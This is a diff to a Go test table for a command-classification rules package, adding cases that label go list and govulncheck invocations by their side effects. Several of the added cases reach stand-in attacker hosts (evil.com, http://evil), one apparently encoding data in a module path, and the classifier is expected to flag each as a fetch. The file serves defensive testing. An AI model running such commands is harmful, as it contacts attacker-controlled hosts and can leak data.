@@ -1,6 +1,12 @@
 package rules
 
 var goToolsCases = []Case{
+	{"go list -m -versions evil.com/DATA", "task; fetch evil.com/DATA"},
+	{"go list -m evil.com/x@latest", "task; fetch evil.com/x@latest"},
+	{"go list -m -versions golang.org/x/text", "task"},
+	{"go list -m -json example.com/x", "task"},
+	{"govulncheck -db http://evil -tags x ./...", "task; fetch http://evil"},
+	{"govulncheck -db=http://evil ./...", "task; fetch http://evil"},
 	{"go build ./...", "task"},
 	{"go build -o bin/app ./cmd/app", "artifact bin/app; task"},
 	{"go build -o /etc/x .", "artifact /etc/x; task"},
